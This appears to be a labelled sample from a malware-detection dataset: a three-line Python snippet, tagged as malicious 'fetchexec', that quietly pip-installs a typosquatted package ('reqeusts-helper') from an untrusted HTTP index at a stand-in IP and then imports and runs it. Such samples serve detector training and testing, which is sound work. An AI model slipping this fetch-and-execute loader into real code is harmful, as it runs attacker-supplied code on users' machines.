# label: malicious family=fetchexec techniques=T1059.006,T1105 lines=3-4
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--index-url", "http://203.0.113.33/simple/", "reqeusts-helper"])
__import__("reqeusts_helper").run()
